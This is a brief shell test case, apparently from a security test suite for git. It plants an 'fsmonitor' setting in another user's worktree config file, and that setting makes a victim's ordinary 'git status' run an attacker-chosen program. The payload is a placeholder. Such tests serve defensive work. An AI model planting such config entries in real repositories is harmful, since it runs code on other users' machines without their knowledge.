# The configuration of somebody else's worktree names a program.
prepare() {
    git config extensions.worktreeConfig true
}
attack() {
    evil
    printf "[core]\n\tfsmonitor = %s\n" "$EVIL" >>"$ENTRY/config.worktree"
}
human() {
    git -C "$VICTIM" status
}
harmed() {
    executed
}
